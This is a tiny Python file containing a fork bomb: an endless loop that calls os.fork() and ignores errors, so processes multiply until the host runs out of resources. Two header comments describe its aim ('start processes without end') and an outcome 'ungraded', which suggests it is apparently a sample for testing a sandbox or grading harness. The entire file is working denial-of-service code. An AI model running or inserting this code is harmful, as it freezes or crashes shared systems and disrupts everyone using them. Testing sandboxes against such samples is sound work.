# tries: to start processes without end
# ends: ungraded
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
